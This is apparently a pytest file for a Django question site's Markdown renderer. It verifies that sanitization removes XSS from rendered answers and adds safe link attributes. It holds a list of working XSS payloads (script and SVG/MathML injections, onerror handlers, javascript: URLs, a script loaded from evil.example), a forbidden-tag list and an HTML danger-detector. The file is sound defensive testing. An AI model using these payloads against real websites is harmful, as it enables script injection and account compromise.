from html.parser import HTMLParser

import pytest

from questions.markdown import render_markdown, unsanitized_html
from tests.factories import QuestionFactory

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<a href="javascript&colon;alert(1)">x</a>',
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<iframe src="https://evil.example"></iframe>',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><circle r="4"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
]
# Look dangerous, are inert even unsanitized (escaped by Markdown, a comment,
# an attribute value); they must stay inert after sanitizing too.
TRICKY_PAYLOADS = [
    '![x](x" onerror="alert(1))',
    "<!--<img src=x onerror=alert(1)>-->",
    '<p title="</p><script>alert(1)</script>">x</p>',
]

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "svg",
    # <math> itself is allowed (formulas, issue 23); these parts of MathML are not.
    "mglyph",
    "maction",
    "annotation-xml",
    "object",
    "embed",
    "form",
    "style",
    "meta",
    "base",
    "body",
}
SAFE_URL_PREFIXES = ("http://", "https://", "mailto:", "#", "/")


class _DangerFinder(HTMLParser):
    """Parses sanitized HTML the way a browser would and lists what could run."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag}[{name}]")
            if name != "href" and name.endswith("href"):  # xlink:href on MathML
                self.found.append(f"{tag}[{name}]")
            if name in {"href", "src", "action", "formaction"} and value is not None:
                url = value.strip().lower()
                if ":" in url.split("/")[0] and not url.startswith(SAFE_URL_PREFIXES):
                    self.found.append(f"{tag}[{name}={value}]")


def dangerous_parts(html: str) -> list[str]:
    finder = _DangerFinder()
    finder.feed(html)
    finder.close()
    return finder.found


def test_danger_finder_would_catch_the_payloads_unsanitized():
    # The check below must be able to fail: unsanitized payloads trip it.
    missed = [p for p in XSS_PAYLOADS if not dangerous_parts(unsanitized_html(p))]
    assert missed == []


@pytest.mark.parametrize("payload", XSS_PAYLOADS + TRICKY_PAYLOADS)
def test_xss_payload_in_markdown_never_reaches_the_html(payload):
    html = render_markdown(f"Intro\n\n{payload}\n\nOutro")
    assert dangerous_parts(html) == [], html
    assert "<script" not in html.lower()


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_in_a_saved_answer_is_sanitized(payload):
    question = QuestionFactory(answer=payload, explanation=payload, body=payload, editor_note=payload)
    for html in (
        question.answer_html,
        question.explanation_html,
        question.body_html,
        question.editor_note_html,
    ):
        assert dangerous_parts(html) == [], html


def test_fenced_python_is_highlighted_with_pygments_token_classes():
    html = render_markdown("```python\nimport torch\nx = 1 < 2\n```")
    assert '<div class="highlight" data-lang="python">' in html
    assert '<code class="language-python">' in html
    assert '<span class="kn">import</span>' in html
    assert "&lt;" in html


def test_code_without_a_language_is_plain_escaped_text():
    html = render_markdown("```\n<b>not bold</b>\n```")
    assert "&lt;b&gt;not bold&lt;/b&gt;" in html
    assert '<span class="k' not in html


def test_code_in_an_unknown_language_is_plain_escaped_text():
    html = render_markdown("```nosuchlanguage\nif (a < b) { run(); }\n```")
    assert "if (a &lt; b) { run(); }" in html
    assert 'data-lang="nosuchlanguage"' in html


def test_language_label_cannot_break_out_of_its_attribute():
    html = render_markdown('```py"><script>alert(1)</script>\nx\n```')
    assert "<script" not in html


def test_lists_bold_tables_and_inline_code_render():
    html = render_markdown("1. **技术实力**：团队\n2. `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n- y")
    assert "<ol>" in html
    assert "<strong>技术实力</strong>" in html
    assert "<code>code</code>" in html
    assert "<table>" in html
    assert "<td>1</td>" in html
    assert "<ul>" in html


def test_links_keep_safe_urls_and_gain_rel_attributes():
    html = render_markdown("[docs](https://docs.example/x)")
    assert 'href="https://docs.example/x"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_empty_markdown_renders_to_empty_string():
    assert render_markdown("") == ""
    assert render_markdown("   \n") == ""


def test_markdown_cannot_borrow_the_sites_own_classes():
    html = render_markdown(
        '<div class="notice notice-draft">Fake notice</div> <span class="badge k">x</span>'
    )
    assert "notice" not in html.split("Fake")[0]
    assert 'class="k"' in html
    assert "badge" not in html


def test_highlighted_code_keeps_every_pygments_class():
    from questions.markdown import unsanitized_html

    source = (
        "```python\nimport torch\n@decorator\ndef f(x: int = 1) -> str:\n    return f'{x!r}'  # done\n```"
    )
    assert render_markdown(source) == unsanitized_html(source)
